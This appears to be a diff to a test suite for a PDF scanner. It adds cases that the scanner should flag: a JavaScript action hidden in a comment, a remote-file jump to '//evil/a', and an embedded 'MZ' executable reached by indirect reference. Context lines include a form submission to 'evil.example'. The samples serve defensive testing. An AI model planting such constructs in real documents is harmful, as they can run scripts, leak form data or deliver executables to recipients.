@@ -73,6 +73,7 @@ describe('PDF', () => {
       ['a script with another spelling', 'a.pdf', pdfWith('<</S/J#61v#61Script/#4aS(app.alert(1))>>')],
       ['a script at opening', 'a.pdf', pdfWith('<</OpenAction<</S /JavaScript /JS 9 0 R>>>>')],
       ['scripts by name', 'a.pdf', pdfWith('<</Names<</JavaScript 9 0 R>>>>')],
+      ['a script in a comment', 'a.pdf', pdfWith('<<>>\n% <</S/JavaScript>>')],
       ['a script in a list', 'a.pdf', pdfWith('[[<</Next[<</JS(1)>>]>>]]')],
       ['a script among packed objects', 'a.pdf', pdfWith(objectStream('<</S/JavaScript/JS(1)>>'))],
       [
@@ -157,6 +158,7 @@ describe('PDF', () => {
         'a.pdf',
         pdfWith('<</S/GoToR/F<</F(a.pdf)/UF(//evil/a.pdf)>>>>'),
       ],
+      ['a way into another file, named for one system', 'a.pdf', pdfWith('<</S/GoToR/F<</DOS(//evil/a)>>>>')],
       ['a way into another file, named elsewhere', 'a.pdf', pdfWith('<</S/GoToR/F 9 0 R>>')],
       ['answers that are sent away', 'a.pdf', pdfWith('<</S/SubmitForm/F(https://evil.example)>>')],
       ['an attachment that nothing names', 'a.pdf', pdfWith('<</Type/EmbeddedFile>>stream\nMZ\nendstream')],
@@ -186,6 +188,11 @@ describe('PDF', () => {
         drawnPdf({ attachment: Buffer.from('<?xml version="1.0"?>\0MZ') }),
       ],
       ['an attachment among packed objects', 'a.pdf', packed],
+      [
+        'an attachment that is named elsewhere',
+        'a.pdf',
+        pdfWith('<</EF 11 0 R>>', '<</F 12 0 R>>', '<<>>stream\nMZ\nendstream'),
+      ],
       ['an attachment that is not there', 'a.pdf', pdfWith('<</EF<</F 99 0 R>>>>')],
       ['packed objects behind a lock', 'a.pdf', pdfWith(objectStream('<<>>'), '<</Encrypt 9 0 R>>')],
       [
